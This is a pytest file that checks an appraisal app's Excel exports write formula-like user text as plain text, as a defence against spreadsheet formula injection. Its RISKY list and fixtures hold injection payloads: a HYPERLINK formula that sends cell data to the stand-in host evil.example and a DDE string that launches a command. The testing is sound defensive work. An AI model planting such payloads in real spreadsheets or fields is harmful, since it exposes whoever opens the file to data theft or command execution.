"""Text that looks like a formula is written as text, in every workbook (issue 13, point 5)."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from assessments import services
from assessments.engine_input import load_catalog
from reports import xlsx_safe
from reports.selectors import findings_report
from reports.xlsx import workbook_bytes
from tests.conftest import rate_cell

RISKY = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _formulas(data: bytes) -> list[str]:
    """The <f> (formula) elements of every sheet of an .xlsx file."""
    with zipfile.ZipFile(BytesIO(data)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


@pytest.mark.parametrize("text", RISKY)
def test_cell_text_and_protect_keep_the_visible_text(text):
    wb = Workbook()
    sheet = wb.active
    sheet.append([xlsx_safe.cell_text(text), text, "plain", 42, "a-b"])
    data = xlsx_safe.workbook_bytes(wb)
    assert _formulas(data) == []
    row = next(load_workbook(BytesIO(data)).active.iter_rows(values_only=False))
    # XML reads a carriage return back as a line feed; either is invisible in the cell.
    shown = text.replace("\r", "\n")
    assert [c.value for c in row] == [shown, shown, "plain", 42, "a-b"]
    assert [c.data_type for c in row[:2]] == ["s", "s"]
    assert row[1].quotePrefix and not row[2].quotePrefix


def test_the_findings_workbook_writes_every_user_text_as_text(appraisal, lead, team_member):
    catalog = load_catalog(appraisal.variant)
    appraisal.team = '=HYPERLINK("https://evil.example","Ada")\n@Bob'
    appraisal.name = "-1+2 review"
    appraisal.save()
    desk = appraisal.instances.get(key="desk")
    services.instance_save(
        appraisal=appraisal,
        instance=desk,
        key="desk",
        name="+Service desk",
        kind="service",
        process_areas=list(desk.process_areas.all()),
    )
    rate_cell(appraisal, "desk", "REQM", "SP 1.1", "LI", team_member, note="=1+1")
    reqm = catalog.process_areas["REQM"]
    for kind, text in (("strength", "=2+2"), ("weakness", "\t=cmd")):
        services.finding_create(
            appraisal=appraisal, process_area=reqm, kind=kind, text=text, user=team_member
        )

    data = workbook_bytes(findings_report(appraisal))

    assert _formulas(data) == []
    wb = load_workbook(BytesIO(data))
    texts = {
        cell.value
        for sheet in wb.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    assert {'=HYPERLINK("https://evil.example","Ada")\n@Bob', "=2+2", "-1+2 review"} <= texts
    assert "+Service desk" in texts
    assert any(t.endswith("desk: =1+1") or t == "desk: =1+1" for t in texts)
